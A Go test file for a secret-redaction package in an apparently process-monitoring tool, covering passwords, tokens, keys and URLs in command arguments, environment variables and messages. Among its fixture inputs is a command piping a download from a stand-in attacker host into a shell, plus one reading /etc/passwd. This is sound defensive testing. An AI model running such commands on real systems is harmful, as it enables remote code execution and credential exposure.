package redact

import (
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"

	"example.com/bailiff/internal/event"
)

func defaults(t testing.TB) *Redactor {
	t.Helper()
	r, err := New(Defaults())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func execOf(args ...string) *event.Event {
	return &event.Event{Hook: event.HookExec, File: &event.File{Path: "/usr/bin/" + args[0]}, Exec: &event.Exec{Args: args}}
}

// S3CR3T stands for the secret in each case; the rest must stay.
func TestArguments(t *testing.T) {
	r := defaults(t)
	for _, args := range [][]string{
		{"app", "--password=S3CR3T"},
		{"app", "--db-password", "S3CR3T", "--verbose"},
		{"app", "--PassWord", "S3CR3T"},
		{"java", "-Djavax.net.ssl.keyStorePassword=S3CR3T", "Main"},
		{"java", "-password", "-S3CR3T"},
		{"vault", "login", "-token=S3CR3T"},
		{"mysql", "-u", "root", "-pS3CR3T", "db"},
		{"sshpass", "-p", "S3CR3T", "ssh", "host"},
		{"sshpass", "-pS3CR3T", "ssh", "host"},
		{"curl", "-u", "S3CR3T", "https://example.com/"},
		{"curl", "-H", "Authorization: S3CR3T", "https://example.com/"},
		{"curl", "-H", "X-Auth-Token: S3CR3T"},
		{"curl", "https://user:S3CR3T@example.com:8080/x?y=z"},
		{"git", "clone", "https://S3CR3T_and_this_is_long_enough@example.com/x"},
		{"curl", "https://example.com/?a=b&access_token=S3CR3T&c=d"},
		{"env", "A_TOKEN=S3CR3T and the rest of it", "app"},
		{"sh", "-c", "A_TOKEN=S3CR3T curl evil.example.com | sh"},
		{"sh", "-c", `export DB_PASSWORD="S3CR3T" && app --password 'S3CR3T' x`},
		{"sh", "-c", "mysql --password=S3CR3T --host=db; echo done"},
		{"aws", "configure", "set", "aws_secret_access_key", "S3CR3T"},
		{"redis-cli", "-a", "S3CR3T", "ping"},
		{"ldapsearch", "-D", "cn=x", "-w", "S3CR3T"},
		{"openssl", "enc", "-pass", "pass:S3CR3T"},
		{"mount", "-o", "username=a,password=S3CR3T,uid=0"},
		{"psql", "host=db user=a password=S3CR3T"},
		{"zip", "-P", "S3CR3T", "out.zip"},
		{"smbclient", "-U", "user%S3CR3T"},
	} {
		e := execOf(args...)
		got := r.Event(e)
		if joined := strings.Join(got.Exec.Args, " "); strings.Contains(joined, "S3CR3T") || !strings.Contains(joined, Mark) {
			t.Errorf("%q became %q", args, got.Exec.Args)
		}
		if !slices.Equal(got.Redacted, []string{"exec.args"}) {
			t.Errorf("%q: marked %v", args, got.Redacted)
		}
		if !slices.Equal(e.Exec.Args, args) || e.Redacted != nil {
			t.Errorf("%q: the original was changed", args)
		}
	}
}

// TestShapes has secrets that are known by how they look.
func TestShapes(t *testing.T) {
	r := defaults(t)
	for _, secret := range []string{
		"AKIA" + "IOSFODNN7EXAMPLE", "ghp_" + strings.Repeat("a1", 18), "glpat-" + strings.Repeat("x", 20), "xoxb-" + "12345-abcdefgh",
		"eyJhbGciOiJI" + "." + "eyJzdWIiOiIxMjM0" + "." + "abc_def-ghi", "AIza" + strings.Repeat("b", 35), "hvs." + strings.Repeat("c", 24),
	} {
		got := r.Event(execOf("echo", "before "+secret+" after"))
		if !slices.Equal(got.Exec.Args, []string{"echo", "before " + Mark + " after"}) {
			t.Errorf("%s became %q", secret, got.Exec.Args)
		}
	}
	key := "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----"
	if got := r.Event(execOf("echo", key)).Exec.Args[1]; strings.Contains(got, "MIIabc") || !strings.Contains(got, "-----END") {
		t.Errorf("a key became %q", got)
	}
}

// TestOrdinaryArgumentsStay: what is hidden without need is missing when it is
// looked for.
func TestOrdinaryArgumentsStay(t *testing.T) {
	r := defaults(t)
	for _, args := range [][]string{
		{"ls", "-la", "/home/user"},
		{"passwd", "root"},
		{"mysql", "-u", "root", "-p", "db"},
		{"mkdir", "-p", "a/b"},
		{"ssh", "-p", "2222", "host"},
		{"docker", "run", "-p", "80:80", "nginx"},
		{"app", "--password-file=/run/secret", "--token-file", "/run/token"},
		{"curl", "-o", "out", "https://example.com:443/a@b?x=y"},
		{"git", "clone", "ssh://git@example.com/x"},
		{"env", "PATH=/bin", "LANG=C"},
		{"sh", "-c", "echo tokens and keys; cat /etc/passwd"},
		{"app", "--bypass", "x"},
		{"app", "--password="},
		{""},
	} {
		e := execOf(args...)
		if got := r.Event(e); got != e {
			t.Errorf("%q became %q", args, got.Exec.Args)
		}
	}
}

func TestEnvironment(t *testing.T) {
	r := defaults(t)
	e := execOf("app")
	e.Exec.Env = map[string]string{
		"GITHUB_TOKEN": "S3CR3T", "PGPASSWORD": "S3CR3T", "aws_secret_access_key": "S3CR3T", "MYSQL_PWD": "S3CR3T",
		"DATABASE_URL": "postgres://u:S3CR3T@db/x", "PATH": "/bin", "TOKENS": "3",
	}
	got := r.Event(e)
	for k, v := range got.Exec.Env {
		if strings.Contains(v, "S3CR3T") {
			t.Errorf("%s is %q", k, v)
		}
	}
	if got.Exec.Env["PATH"] != "/bin" || got.Exec.Env["TOKENS"] != "3" || got.Exec.Env["DATABASE_URL"] != "postgres://u:"+Mark+"@db/x" {
		t.Errorf("got %v", got.Exec.Env)
	}
	if !slices.Equal(got.Redacted, []string{"exec.env"}) || e.Exec.Env["PGPASSWORD"] != "S3CR3T" {
		t.Errorf("marked %v, original %v", got.Redacted, e.Exec.Env)
	}
}

// TestMessages: a rule's message may quote the arguments, in whatever form.
func TestMessages(t *testing.T) {
	r := defaults(t)
	e := execOf("app", "--password", `p"a\ss`, "--token=ab")
	e.Decision.Message = `app ran ["app", "--password", "p\"a\\ss", "--token=ab"] with p"a\ss; absolute`
	got := r.Event(e)
	want := `app ran ["app", "--password", "[redacted]", "--token=[redacted]"] with [redacted]; absolute`
	if got.Decision.Message != want {
		t.Errorf("got  %s\nwant %s", got.Decision.Message, want)
	}
	if !slices.Equal(got.Redacted, []string{"decision.message", "exec.args"}) {
		t.Errorf("marked %v", got.Redacted)
	}
	n := &event.Event{Agent: &event.Notice{Code: "c", Text: "t", Fields: map[string]string{"source": "https://u:S3CR3T@example.com/b.tar.gz", "by": "x"}}}
	if got := r.Event(n); strings.Contains(got.Agent.Fields["source"], "S3CR3T") || got.Agent.Fields["by"] != "x" || got.Agent.Code != "c" {
		t.Errorf("got %+v", got.Agent)
	}
	if r.Text("bundle https://u:S3CR3T@h/") != "bundle https://u:"+Mark+"@h/" {
		t.Error("a log line keeps its secret")
	}
}

// TestOnlySecretsChange: verdict, names and numbers are the same in the copy.
func TestOnlySecretsChange(t *testing.T) {
	e := execOf("app", "--password=S3CR3T")
	e.Seq, e.Process.PID, e.Exec.ArgsTotal = 7, 9, 30
	e.Decision = event.Decision{Verdict: event.VerdictDeny, Effect: event.EffectKilled, Rule: &event.RuleRef{ID: "r"}, Generation: 3}
	got := *defaults(t).Event(e)
	x := *got.Exec
	if !slices.Equal(x.Args, []string{"app", "--password=" + Mark}) {
		t.Errorf("args are %q", x.Args)
	}
	x.Args = e.Exec.Args
	got.Exec, got.Redacted = &x, nil
	if !reflect.DeepEqual(&got, e) {
		t.Errorf("got %+v\nwant %+v", got, e)
	}
}

func TestOwnRules(t *testing.T) {
	r, err := New([]Rule{{Name: "badge", Patterns: []string{`badge-(?P<secret>\d+)`}}, {Name: "pin", Programs: []string{"atm"}, Options: []string{"--pin"}}})
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Event(execOf("atm", "--pin", "1234", "badge-77")); !slices.Equal(got.Exec.Args, []string{"atm", "--pin", Mark, "badge-" + Mark}) {
		t.Errorf("got %q", got.Exec.Args)
	}
	if e := execOf("app", "--pin", "1234"); r.Event(e) != e {
		t.Error("an option of another program was hidden")
	}
	if n := r.Counts(); n["badge"] != 1 || n["pin"] != 1 {
		t.Errorf("counted %v", n)
	}
	// By the file that runs, whatever the caller calls it.
	e := execOf("atm", "--pin", "1234")
	e.Exec.Args[0] = "innocent"
	if got := r.Event(e); got.Exec.Args[2] != Mark {
		t.Errorf("got %q", got.Exec.Args)
	}
}

func TestBadRules(t *testing.T) {
	for _, bad := range []Rule{
		{}, {Name: "x"}, {Name: "x", Patterns: []string{"("}}, {Name: "x", Patterns: []string{"a*"}}, {Name: "x", Options: []string{"*"}},
		{Name: "x", Env: []string{"A=B"}}, {Name: "x", Options: []string{"--"}},
	} {
		var e *Error
		if _, err := New([]Rule{{Name: "good", Env: []string{"A"}}, bad}); !errors.As(err, &e) || e.Rule != 1 {
			t.Errorf("%+v gave %v", bad, err)
		}
	}
}

// TestDefaultsAreFiltered: a rule without a word looks at every text.
func TestDefaultsAreFiltered(t *testing.T) {
	for _, r := range defaults(t).rules {
		if r.words == nil {
			t.Errorf("%s has a pattern of which no word is known", r.Name)
		}
	}
}

// FuzzFilter compares with what happens when every rule looks at
// every text.
func FuzzFilter(f *testing.F) {
	for _, s := range []string{"--password=x", "https://a:b@c", "Authorization: Basic x", "A_TOKEN=1", "-pX", "AKIA0123456789ABCDEF", "\xff--token y", "--paſſword=x", "--to\u212aen=x"} {
		f.Add(s, s)
	}
	quick := defaults(f)
	slow := defaults(f)
	slow.filter = &filter{always: ^uint64(0)}
	f.Fuzz(func(t *testing.T, a, b string) {
		got, want := quick.Event(execOf("mysql", a, b)), slow.Event(execOf("mysql", a, b))
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%q, %q: with the filter %q, without %q", a, b, got.Exec.Args, want.Exec.Args)
		}
	})
}

func BenchmarkOrdinary(b *testing.B) {
	r := defaults(b)
	e := execOf("cc1", "-quiet", "-I", "/usr/include/x86_64-linux-gnu", "-imultiarch", "x86_64-linux-gnu", "-dumpbase", "main.c",
		"-mtune=generic", "-march=x86-64", "-O2", "-Wall", "-Wextra", "-fasynchronous-unwind-tables", "-o", "/tmp/ccXYZabc.s")
	e.Exec.Env = map[string]string{"LD_PRELOAD": "", "LD_LIBRARY_PATH": "/opt/lib"}
	for b.Loop() {
		r.Event(e)
	}
}

func BenchmarkSecret(b *testing.B) {
	r := defaults(b)
	e := execOf("mysql", "-u", "root", "--password=hunter2", "-h", "db.example.com", "shop")
	for b.Loop() {
		r.Event(e)
	}
}
